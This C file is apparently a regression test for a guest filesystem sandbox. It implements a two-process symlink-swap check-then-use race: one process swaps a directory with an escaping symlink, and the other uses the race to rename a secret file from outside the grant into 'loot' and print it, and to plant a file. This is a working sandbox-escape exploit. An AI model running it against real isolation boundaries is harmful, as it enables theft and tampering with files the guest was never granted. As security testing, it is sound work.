/* fs_race.c: the two halves of a check-then-use race on one shared writable
 * grant (issue 21 item 3), run as two guests at once.
 *   fs_race swap BASE MAX   creates BASE/started, then swaps BASE/d (a real
 *                           directory) with BASE/l (a symlink the host made,
 *                           leaving the grant) until BASE/stop exists or MAX
 *                           rounds; prints "swaps N".
 *   fs_race steal BASE N    waits (up to 10 s) for BASE/started, then N
 *                           times: rename("BASE/d/secret.txt", "BASE/loot")
 *                           and create BASE/d/planted (O_EXCL); then creates
 *                           BASE/stop.
 * steal prints "moved: <text of loot>" and stops when a rename succeeded (a
 * file came in from outside the grant: there is no secret.txt inside); ends with
 * "tries N moved M created C". Exit 0. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char p_d[512], p_dreal[512], p_l[512], p_stop[512], p_started[512], p_secret[512], p_loot[512], p_planted[512];

static int swap(long max) {
    long n = 0;
    struct stat st;
    int s = open(p_started, O_CREAT | O_WRONLY, 0644);
    if (s >= 0) close(s);
    for (; n < max; n++) {
        if ((n & 15) == 0 && stat(p_stop, &st) == 0) break;
        rename(p_d, p_dreal);
        rename(p_l, p_d);
        rename(p_d, p_l);
        rename(p_dreal, p_d);
    }
    printf("swaps %ld\n", n);
    return 0;
}

static int steal(long tries) {
    static char buf[256];
    long moved = 0, created = 0, i = 0;
    struct stat st;
    /* Race only while the swapper runs (it may start a little later). */
    for (int w = 0; w < 10000 && stat(p_started, &st) != 0; w++) usleep(1000);
    for (; i < tries; i++) {
        if (rename(p_secret, p_loot) == 0) {
            moved++;
            int f = open(p_loot, O_RDONLY);
            ssize_t n = f >= 0 ? read(f, buf, sizeof buf - 1) : -1;
            buf[n > 0 ? n : 0] = 0;
            if (f >= 0) close(f);
            printf("moved: %s\n", buf);
            break;
        }
        /* Lands in the real d once (then EEXIST there); any other success
         * created it wherever d led at that moment. */
        int f = open(p_planted, O_CREAT | O_EXCL | O_WRONLY, 0644);
        if (f >= 0) {
            created++;
            close(f);
        }
    }
    int s = open(p_stop, O_CREAT | O_WRONLY, 0644);
    if (s >= 0) close(s);
    printf("tries %ld moved %ld created %ld\n", i, moved, created);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    const char *b = argv[2];
    snprintf(p_d, sizeof p_d, "%s/d", b);
    snprintf(p_dreal, sizeof p_dreal, "%s/d_real", b);
    snprintf(p_l, sizeof p_l, "%s/l", b);
    snprintf(p_stop, sizeof p_stop, "%s/stop", b);
    snprintf(p_started, sizeof p_started, "%s/started", b);
    snprintf(p_secret, sizeof p_secret, "%s/d/secret.txt", b);
    snprintf(p_loot, sizeof p_loot, "%s/loot", b);
    snprintf(p_planted, sizeof p_planted, "%s/d/planted", b);
    long n = strtol(argv[3], NULL, 10);
    if (!strcmp(argv[1], "swap")) return swap(n);
    if (!strcmp(argv[1], "steal")) return steal(n);
    return 2;
}
